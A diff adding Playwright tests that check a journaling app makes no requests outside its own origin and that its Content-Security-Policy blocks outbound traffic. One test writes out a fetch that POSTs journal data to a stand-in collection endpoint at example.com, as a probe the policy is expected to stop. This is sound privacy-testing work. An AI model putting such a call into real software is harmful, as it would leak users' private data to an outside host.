@@ -1,0 +1,56 @@
+// Nothing leaves the machine: during a session that visits every view, every request
+// the page makes must go to the app's own origin.
+import { expect, test, type Request } from '@playwright/test'
+
+const VIEWS = ['Journal', 'Readiness', 'Bullets', 'Review', 'Settings']
+/** Schemes that never touch the network. */
+const LOCAL_SCHEMES = new Set(['data:', 'blob:', 'about:'])
+
+test('a session through every view makes no request outside the app origin', async ({
+  page,
+  context,
+  baseURL,
+}) => {
+  const appOrigin = new URL(baseURL ?? 'http://127.0.0.1/').origin
+  const requests: string[] = []
+  const record = (request: Request) => requests.push(request.url())
+  context.on('request', record)
+  const sockets: string[] = []
+  page.on('websocket', (socket) => sockets.push(socket.url()))
+
+  await page.goto('/')
+  const nav = page.getByRole('navigation', { name: 'Main' })
+  for (const view of [...VIEWS, ...VIEWS.slice().reverse()]) {
+    const button = nav.getByRole('button', { name: view, exact: true })
+    await button.click()
+    await expect(button).toHaveAttribute('aria-current', 'page')
+    await expect(page.getByRole('main')).toBeVisible()
+  }
+  // Reload once: a second start (database already there) must stay local too.
+  await page.reload()
+  await expect(nav.getByRole('button', { name: 'Journal', exact: true })).toBeVisible()
+  await page.waitForLoadState('networkidle')
+
+  const outside = requests.filter((raw) => {
+    const url = new URL(raw)
+    return !LOCAL_SCHEMES.has(url.protocol) && url.origin !== appOrigin
+  })
+  expect(requests.length, 'the recorder saw the app load').toBeGreaterThan(0)
+  expect(outside).toEqual([])
+  expect(sockets).toEqual([])
+})
+
+test('the page itself cannot reach another host (Content-Security-Policy)', async ({ page }) => {
+  const requests: string[] = []
+  page.on('request', (request) => requests.push(request.url()))
+  await page.goto('/')
+  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
+  const outcome = await page.evaluate(() =>
+    fetch('https://example.com/collect', { method: 'POST', body: 'journal' }).then(
+      () => 'sent',
+      () => 'blocked',
+    ),
+  )
+  expect(outcome).toBe('blocked')
+  expect(requests.filter((url) => url.includes('example.com'))).toEqual([])
+})
